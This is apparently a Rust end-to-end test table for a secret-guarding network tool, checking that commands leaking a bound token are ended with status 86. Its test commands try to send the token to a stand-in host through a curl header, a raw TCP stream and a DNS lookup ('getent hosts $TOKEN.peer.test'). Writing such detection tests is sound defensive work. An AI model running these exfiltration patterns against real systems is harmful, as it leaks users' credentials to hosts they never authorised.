//! Violations that end the command, with status 86 and one line that says why.

use crate::e2e::row::Expect::{Err, Exit, NotErr, NotOut, NotUpstream, Out};
use crate::e2e::row::{Only, Row, row};

/// What every generated placeholder begins with.
const PLACEHOLDER: &str = "netsec_";

macro_rules! ending {
    ($($flag:literal),*) => {
        &["--secret", "TOKEN=env:SECRET_SOURCE@web.test", "--allow", "*.test" $(, $flag)*]
    };
}

pub(crate) const ROWS: &[Row] = &[
    row(
        "violation_in_a_header_ends_the_command",
        ending!("--on-violation", "block_and_terminate"),
        "curl -s -H \"X-Token: $TOKEN\" https://peer.test/{id}; sleep 60; echo alive",
        &[
            Exit(86),
            NotOut("alive"),
            Err(&[
                "the command was ended: secret TOKEN was on its way to a host it is not bound to",
                "in the head of a request to peer.test (",
                ":443)",
            ]),
            NotErr(PLACEHOLDER),
            NotErr("real-{id}"),
            NotUpstream("{id}"),
        ],
    )
    .judged()
    .only(Only::OncePerUser),
    row(
        "violation_over_tcp_ends_the_command",
        &[
            "--secret",
            "TOKEN=env:SECRET_SOURCE@web.test",
            "--allow",
            "public",
            "--intercept",
            "443,7000",
            "--on-violation",
            "block_and_terminate",
        ],
        "python3 {dir}/with_secrets.py raw peer.test 7000; sleep 60; echo alive",
        &[
            Exit(86),
            NotOut("alive"),
            Err(&["the command was ended: secret TOKEN", "in a stream to", ":7000"]),
            NotErr(PLACEHOLDER),
        ],
    )
    .judged()
    .only(Only::OncePerUser),
    row(
        "violation_in_a_name_ends_the_command",
        ending!("--on-violation", "block_and_terminate"),
        "getent hosts $TOKEN.peer.test; sleep 60; echo alive",
        &[
            Exit(86),
            NotOut("alive"),
            Err(&["the command was ended: secret TOKEN", "in a name to be resolved"]),
            NotUpstream(PLACEHOLDER),
        ],
    )
    .judged()
    .only(Only::OncePerUser),
    row(
        "third_violation_ends_the_command",
        ending!("--on-violation", "block", "--terminate-after", "3"),
        "for n in 1 2 3 4; do curl -s -H \"X-Token: $TOKEN\" https://peer.test/{id}; echo tried $n; sleep 2; done",
        &[
            Exit(86),
            Out("tried 2\n"),
            NotOut("tried 4"),
            Err(&["the command was ended: secret TOKEN", "peer.test ("]),
            NotErr(PLACEHOLDER),
            NotUpstream("{id}"),
        ],
    )
    .judged()
    .only(Only::OncePerUser),
    row(
        "status_is_the_command_s_where_violations_are_blocked",
        ending!(),
        "curl -s -H \"X-Token: $TOKEN\" https://peer.test/{id}; exit 7",
        &[Exit(7), NotUpstream("{id}")],
    )
    .judged()
    .only(Only::OncePerUser),
];
